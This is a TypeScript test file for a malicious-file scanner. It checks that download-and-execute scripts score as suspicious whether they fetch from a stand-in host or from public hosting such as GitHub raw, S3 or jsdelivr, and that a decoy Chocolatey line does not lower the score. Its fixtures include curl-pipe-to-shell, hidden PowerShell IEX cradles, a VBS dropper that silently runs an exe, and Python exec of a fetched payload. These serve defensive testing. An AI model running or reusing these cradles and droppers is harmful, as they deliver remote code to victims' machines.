// A script that fetches and runs is judged alike wherever anybody may put a file; what stands on a host for its owner alone
// speaks for the script only where it fetches from nowhere else.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../../src/index.ts'

const now = new Date('2026-01-01T00:00:00Z')

const scoreOf = async (fileName: string, text: string): Promise<number> =>
  (await analyzeFile(Buffer.from(text), { fileName, now })).verdict.score

const OWN = 'https://cdn.somebody-else.example/tools'
const BORROWED = [
  'https://raw.githubusercontent.com/somebody/tools/main',
  'https://github.com/somebody/tools/releases/download/v1',
  'https://raw.githubusercontent.com/nvm-sh/nvm/0f1e2d3c4b5a69788796a5b4c3d2e1f001234567',
  'https://gitlab.com/somebody/tools/-/raw/main',
  'https://tools-1234.s3.amazonaws.com/tools',
  'https://storage.googleapis.com/tools-1234',
  'https://tools1234.blob.core.windows.net/tools',
  'https://cdn.jsdelivr.net/gh/somebody/tools',
  'https://unpkg.com/somebodys-tools',
  'https://registry.npmjs.org/somebodys-tools/-',
  'https://dev.azure.com/somebody/tools',
  'https://downloads.sourceforge.net/somebody',
  'https://download.opensuse.org/repositories/home:/somebody',
] as const

const SCRIPTS: Readonly<Record<string, (from: string) => string>> = {
  'setup.sh': (from) => `#!/bin/sh\ncurl -fsSL ${from}/x.sh | sh\n`,
  'cradle.ps1': (from) => `iex ((New-Object System.Net.WebClient).DownloadString('${from}/x.ps1'))\n`,
  'hidden.bat': (from) =>
    `@echo off\r\npowershell -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('${from}/x.ps1')"\r\n`,
  'dropper.vbs': (from) =>
    `Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "${from}/x.exe", False\r\nh.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write h.responseBody\r\ns.SaveToFile "C:\\Users\\Public\\x.exe", 2\r\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\x.exe", 0\r\n`,
  'stage.py': (from) => `import urllib.request\nexec(urllib.request.urlopen("${from}/x.py").read())\n`,
}

for (const [name, write] of Object.entries(SCRIPTS)) {
  test(`${name} scores alike from every host that anybody can upload to`, async () => {
    const own = await scoreOf(name, write(OWN))
    for (const from of BORROWED) assert.ok((await scoreOf(name, write(from))) >= own, from)
  })
}

test('a line for show in front, from a known project, takes nothing off what follows', async () => {
  const cradle = (url: string): string => `iex ((New-Object System.Net.WebClient).DownloadString('${url}'))\n`
  const hidden = cradle(`${OWN}/x.ps1`)
  const shown = cradle('https://community.chocolatey.org/install.ps1')
  const between = "Write-Host 'Installing the tools of the company, please wait a moment'\n".repeat(8)
  assert.ok((await scoreOf('a.ps1', `${shown}${between}${hidden}`)) >= (await scoreOf('a.ps1', hidden)))
})

test('an installer from where only its project puts anything weighs little', async () => {
  for (const from of ['https://get.docker.com', 'https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh'])
    assert.ok(
      (await scoreOf('setup.sh', `#!/bin/sh\ncurl -fsSL ${from} | sh\n`)) <
        (await scoreOf('setup.sh', `#!/bin/sh\ncurl -fsSL ${OWN}/x.sh | sh\n`)),
      from,
    )
})
